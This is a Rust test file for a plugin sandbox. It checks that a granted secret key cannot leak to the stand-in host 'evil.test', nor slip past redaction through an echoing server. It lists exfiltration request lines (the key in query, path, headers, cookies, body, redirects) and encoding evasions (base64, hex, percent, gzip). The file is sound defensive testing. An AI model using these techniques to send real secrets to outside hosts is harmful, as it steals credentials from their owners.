//! Getting at a secret that may be used but not seen.

use base64::{Engine as _, engine::general_purpose};
use waystation_sandbox::Connection;

use super::{Attempt, check};
use crate::{
    log::Log,
    web::{Reply, Seen, Server, connect, grant, name, order, secret},
};

const SECRET: &str = "sk_live/51Hq+Xy\"Zw";

/// `bank.test` may be sent the secret, `evil.test` may be sent requests without it. Both are the same server, which repeats
/// the header field `x-key` and the body in the encoding that the path names.
async fn attacker(server: &Server) -> Connection {
    let (bank, evil) = (origin(server, "bank"), origin(server, "evil"));
    for host in ["bank.test", "evil.test"] {
        name(host, &[&["127.0.0.1"]]);
    }
    connect(|settings| {
        grant(settings, &[&bank, &evil]);
        settings.http.as_mut().expect("it was granted").redirects = 5;
        secret(settings, "key", SECRET, &[&bank]);
    })
    .await
}

fn origin(server: &Server, host: &str) -> String {
    format!("http://{host}.test:{}", server.port)
}

fn echo(seen: &Seen) -> Reply {
    let body = String::from_utf8_lossy(&seen.body).into_owned();
    let said = seen.header("x-key").map_or(body, str::to_owned);
    let escaped = |begin: &str, end: &str| -> String {
        said.bytes().map(|byte| format!("{begin}{byte:02x}{end}")).collect()
    };
    match seen.path().split('?').next().unwrap_or_default() {
        "/json" => Reply::ok(serde_json::json!({ "said": said }).to_string()),
        "/unicode" => Reply::ok(escaped("\\u00", "")),
        "/percent" => Reply::ok(escaped("%", "")),
        "/html" => Reply::ok(escaped("&#x", ";")),
        "/hex" => Reply::ok(escaped("", "")),
        "/base64" => Reply::ok(general_purpose::STANDARD.encode(&said)),
        "/base64/1" => Reply::ok(general_purpose::STANDARD.encode(format!("a{said}bc"))),
        "/base64/2" => Reply::ok(general_purpose::URL_SAFE_NO_PAD.encode(format!("ab{said}c"))),
        "/header" => Reply::answer("200 OK", &format!("x-said: {said}\r\n"), ""),
        "/cookie" => Reply::answer("200 OK", &format!("set-cookie: a={said}; secure\r\n"), ""),
        "/reason" => Reply::answer(&format!("400 {said}"), "", ""),
        "/gzip" => Reply::answer("200 OK", "content-encoding: gzip\r\n", stored(&said)),
        "/broken" => Reply::raw(format!("HTTP/1.1 {said}\r\n\r\n")),
        "/query" => Reply::ok(seen.path()),
        "/away" => {
            let port = seen.header("host").and_then(|host| host.split(':').nth(1)).unwrap_or("");
            Reply::redirect("307 Moved", &format!("http://evil.test:{port}/?{said}"))
        }
        _ => Reply::ok(said),
    }
}

/// A text in the format of gzip, not compressed.
fn stored(text: &str) -> Vec<u8> {
    let length = u16::try_from(text.len()).expect("a short text");
    let mut crc = u32::MAX;
    for byte in text.bytes() {
        crc ^= u32::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { crc >> 1 ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    let mut bytes = b"\x1f\x8b\x08\0\0\0\0\0\0\xff\x01".to_vec();
    bytes.extend(length.to_le_bytes());
    bytes.extend((!length).to_le_bytes());
    bytes.extend(text.as_bytes());
    bytes.extend((!crc).to_le_bytes());
    bytes.extend(u32::from(length).to_le_bytes());
    bytes
}

/// To a server that may not have the secret.
const EXFILTRATION: &[Attempt] = &[
    (
        "in the query",
        "send\nGET http://evil.test:{port}/?{key}",
        "key is not granted towards http://evil.test",
    ),
    (
        "in the path",
        "send\nGET http://evil.test:{port}/{key}",
        "key is not granted towards http://evil.test",
    ),
    ("in the fragment", "send\nGET http://evil.test:{port}/query#{key}", "/query"),
    (
        "in a header field",
        "send\nGET http://evil.test:{port}/\nx-key: {key}",
        "key is not granted towards",
    ),
    (
        "in a cookie",
        "send\nGET http://evil.test:{port}/\ncookie: a={key}",
        "key is not granted towards",
    ),
    (
        "in Basic credentials",
        "send\nGET http://evil.test:{port}/\nauthorization: Basic {basic:a:<key>}",
        "key is not granted towards",
    ),
    (
        "in a field's name",
        "send\nGET http://bank.test:{port}/\n{key}: 1",
        "in a header field's name",
    ),
    ("in the body", "send\nPOST http://evil.test:{port}/\n\n{key}", "key is not granted towards"),
    ("as the host", "send\nGET http://{key}.evil.test:{port}/", "is not an allowed origin"),
    ("as the user", "send\nGET http://{key}@evil.test:{port}/", "has a user or password"),
    ("as the method", "send\n{key} http://bank.test:{port}/", "the method is not a word"),
    (
        "in a redirect's body",
        "send\nPOST http://bank.test:{port}/away\n\n{key}",
        "key to http://evil.test",
    ),
    (
        "in a redirect's URL",
        "send\nGET http://bank.test:{port}/away\nx-key: {key}",
        "key to http://evil.test",
    ),
    (
        "piece by piece",
        "send\nGET http://bank.test:{port}/\nx-key: {key}\nrange: bytes=0-0",
        "range is not allowed",
    ),
    (
        "a forged placeholder",
        "forge\nGET http://bank.test:{port}/\nx-key: {key}",
        "waystation-secret-0000",
    ),
    ("under a known key", "hmac\nknown\n{key}", "NoSecretInKey"),
    ("under no key", "hmac\n\n{key}", "NoSecretInKey"),
    (
        "under a forged key",
        "hmac\nwaystation-secret-00000000000000000000000000000000\n{key}",
        "NoSecretInKey",
    ),
    ("another's secret", "send\nGET http://bank.test:{port}/\nx-key: {other}", "Error::NotGranted"),
];

/// To a server that may have it, and repeats it.
const ECHOES: &[Attempt] = &[
    ("plain", "send\nPOST http://bank.test:{port}/\n\n<{key}>", "<[secret]>"),
    ("twice", "send\nPOST http://bank.test:{port}/\n\n{key}{key}", "[secret]"),
    ("as JSON", "send\nPOST http://bank.test:{port}/json\n\n{key}", "{\"said\":\"[secret]\"}"),
    ("as JSON's \\u", "send\nPOST http://bank.test:{port}/unicode\n\n{key}", "[secret]"),
    ("percent-encoded", "send\nPOST http://bank.test:{port}/percent\n\n{key}", "[secret]"),
    (
        "percent-encoded by the host",
        "send\nPOST http://bank.test:{port}/query?{key}",
        "/query?[secret]",
    ),
    ("in HTML", "send\nPOST http://bank.test:{port}/html\n\n{key}", "[secret]"),
    ("in hexadecimal", "send\nPOST http://bank.test:{port}/hex\n\n{key}", "[secret]"),
    ("in base64", "send\nPOST http://bank.test:{port}/base64\n\n{key}", "[secret]"),
    ("in base64, shifted", "send\nPOST http://bank.test:{port}/base64/1\n\n{key}", "[secret]"),
    ("in base64, shifted more", "send\nPOST http://bank.test:{port}/base64/2\n\n{key}", "[secret]"),
    ("in a header field", "send\nPOST http://bank.test:{port}/header\n\n{key}", "x-said: [secret]"),
    ("in a cookie", "send\nPOST http://bank.test:{port}/cookie\n\n{key}", "a=[secret]; secure"),
    ("in the reason", "send\nPOST http://bank.test:{port}/reason\n\n{key}", "400\n"),
    ("in gzip", "send\nPOST http://bank.test:{port}/gzip\n\n<{key}>", "<[secret]>"),
    (
        "in what is no HTTP",
        "send\nPOST http://bank.test:{port}/broken\n\n{key}",
        "Error::Interrupted(",
    ),
    ("into the log", "send-and-log\nPOST http://bank.test:{port}/\n\n{key}", "[secret]"),
];

#[tokio::test]
async fn a_secret_gets_nowhere_but_where_it_is_granted() {
    let server = Server::start(echo).await;
    let attacker = attacker(&server).await;
    check(&attacker, server.port, EXFILTRATION).await;
    let evil = format!("evil.test:{}", server.port);
    for seen in server.seen().iter().filter(|seen| seen.header("host") == Some(&evil)) {
        assert!(!seen.whole().contains("sk_live"), "{seen:?}");
    }
}

#[tokio::test]
async fn an_echo_shows_no_secret() {
    let log = Log::start();
    let server = Server::start(echo).await;
    let attacker = attacker(&server).await;
    for (what, words, covered) in ECHOES {
        let words = words.replace("{port}", &server.port.to_string());
        let answer = order(&attacker, &words).await;
        assert!(answer.contains(covered), "{what}: {answer:?}");
        for part in ["sk_live", "51Hq", "736b5f6c697665", "%73%6b", "u0073", "x73", "c2tfbGl2"] {
            assert!(!answer.contains(part), "{what}: {answer:?}");
        }
    }
    // The server did get it each time, so it is the host that covered it.
    let got = |seen: &Seen| {
        seen.whole().contains(SECRET) || seen.path().contains("sk_live%2F51Hq%2BXy%22Zw")
    };
    assert!(server.seen().iter().all(got), "{:?}", server.seen());
    assert!(log.text().contains("[secret]") && !log.text().contains("sk_live"), "{}", log.text());
}

#[tokio::test]
async fn a_placeholder_is_worth_nothing_in_another_call() {
    let server = Server::start(echo).await;
    let attacker = attacker(&server).await;
    let old = order(&attacker, "placeholder key").await;
    assert!(old.starts_with("waystation-secret-"), "{old}");
    let url = origin(&server, "bank");
    let answer = order(&attacker, &format!("send\nPOST {url}/\n\n{old}")).await;
    assert!(answer.ends_with(&old), "{answer}");
    assert_eq!(server.only().body, old.as_bytes());
    let hmac = order(&attacker, &format!("hmac\n{old}\ndata")).await;
    assert!(hmac.contains("NoSecretInKey"), "{hmac}");
}

/// Down to what the libraries below say about each byte.
#[tokio::test]
async fn no_log_line_shows_a_secret() {
    let log = Log::at(tracing::Level::TRACE);
    let server = Server::start(echo).await;
    let attacker = attacker(&server).await;
    let port = server.port;
    let request = format!(
        "send\nPOST http://bank.test:{port}/{{key}}?{{key}}\nx-key: {{key}}\nauthorization: Basic {{basic:a:<key>}}\n\n{{key}}"
    );
    assert!(order(&attacker, &request).await.starts_with("200"));
    let failed = format!("send\nPOST http://bank.test:{port}/broken?{{key}}\n\n{{key}}");
    assert!(order(&attacker, &failed).await.starts_with("Error::Interrupted("));
    assert!(server.seen().iter().all(|seen| seen.whole().contains(SECRET)));
    let text = log.text();
    for part in ["sk_live", "51Hq", "c2tfbGl2", "NrX2xpdm", "za19saXZl"] {
        assert!(!text.contains(part), "{}", text.lines().find(|line| line.contains(part)).unwrap());
    }
    let told = |line: &&str| line.contains("bank.test gave no complete response");
    let line = text.lines().find(told).unwrap();
    let line: serde_json::Value = serde_json::from_str(line).unwrap();
    assert_eq!(line["fields"]["message"], "A plugin's HTTP request got no response");
    assert_eq!(
        (&line["level"], &line["fields"]["connection"], &line["fields"]["http.host"]),
        (&"DEBUG".into(), &"shop".into(), &"bank.test".into())
    );
}
